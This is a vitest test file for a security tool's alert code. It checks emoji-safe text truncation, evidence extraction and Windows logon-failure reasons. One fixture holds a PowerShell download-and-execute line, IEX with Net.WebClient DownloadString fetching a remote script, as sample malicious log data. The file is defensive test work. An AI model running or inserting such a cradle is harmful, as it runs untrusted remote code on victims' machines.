import { describe, expect, it } from 'vitest';
import { cutText } from '../../../src/threats/alerts/cut.ts';
import { EntitySet } from '../../../src/threats/alerts/entities.ts';
import { evidenceOf } from '../../../src/threats/alerts/evidence.ts';
import type { ThreatEvent } from '../../../src/threats/event.ts';
import { logonFailure } from '../../../src/threats/parsers/windows/logon-failure.ts';

/** A lone half of a surrogate pair: what a cut through an emoji leaves. */
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

describe('cutText', () => {
  it.each([
    ['short text, kept', 'abc', 5, 'abc'],
    ['text of exactly the limit, kept', 'abcde', 5, 'abcde'],
    ['longer text, cut with an ellipsis', 'abcdef', 5, 'abcde…'],
    ['an emoji across the limit, cut before it', 'abcd😀f', 5, 'abcd…'],
    ['an emoji ending at the limit, kept whole', 'abc😀f', 5, 'abc😀…'],
    ['CJK extension B (a surrogate pair) across the limit', 'abcd𠀀', 5, 'abcd…'],
  ])('%s', (_what, text, max, cut) => {
    expect(cutText(text, max)).toBe(cut);
    expect(LONE_SURROGATE.test(cutText(text, max))).toBe(false);
  });

  const line = (original: string, commandLine: string): ThreatEvent => ({
    '@timestamp': '2024-05-01T10:00:00.000Z',
    'event.dataset': 'linux.auditd',
    'log.original': original,
    'log.file.path': 'audit.log',
    'log.file.line': 1,
    'process.command_line': commandLine,
  });

  it('never leaves half an emoji in an entity or in evidence', () => {
    const event = line(`${'x'.repeat(8191)}😀 rest`, `echo ${'a'.repeat(294)}😀 rest`);
    const set = new EntitySet(50);
    set.addEvent(event);
    const [process] = set.toJSON().processes;
    expect(process).toBe(`echo ${'a'.repeat(294)}…`);
    const original = evidenceOf(event)['log.original'];
    expect(original).toBe(`${'x'.repeat(8191)}…`);
  });
});

describe('evidenceOf', () => {
  it('copies what an analyst reads first, a long script block cut to 2 KiB', () => {
    const script = `IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1'); ${'#'.repeat(10_000)}`;
    const evidence = evidenceOf({
      '@timestamp': '2024-05-01T10:00:00.000Z',
      'event.dataset': 'windows.powershell',
      'event.action': 'powershell_script_block',
      'log.original': '<Event/>',
      'log.file.path': 'ps.xml',
      'log.file.line': 1,
      'winlog.event_data.ScriptBlockText': script,
      'service.name': 'PSEXESVC',
    });
    expect(evidence.fields['service.name']).toBe('PSEXESVC');
    const kept = String(evidence.fields['winlog.event_data.ScriptBlockText']);
    expect(kept.startsWith('IEX (New-Object Net.WebClient)')).toBe(true);
    expect(kept.length).toBeLessThanOrEqual(2049);
  });

  it("keeps why a logon failed: a 4625's reason and SubStatus as Event Viewer words them", () => {
    const event: ThreatEvent = {
      '@timestamp': '2024-05-01T10:00:00.000Z',
      'event.dataset': 'windows.security',
      'event.code': '4625',
      'log.original': '<Event/>',
      'log.file.path': 'security.xml',
      'log.file.line': 3,
    };
    logonFailure(event, { FailureReason: '%%2313', Status: '0xC000006D', SubStatus: '0xC0000064' });
    const { fields } = evidenceOf(event);
    expect(fields['event.reason']).toBe('Unknown user name or bad password.');
    expect(fields['winlog.logon.failure.sub_status']).toBe('User logon with misspelled or bad user account');
  });
});
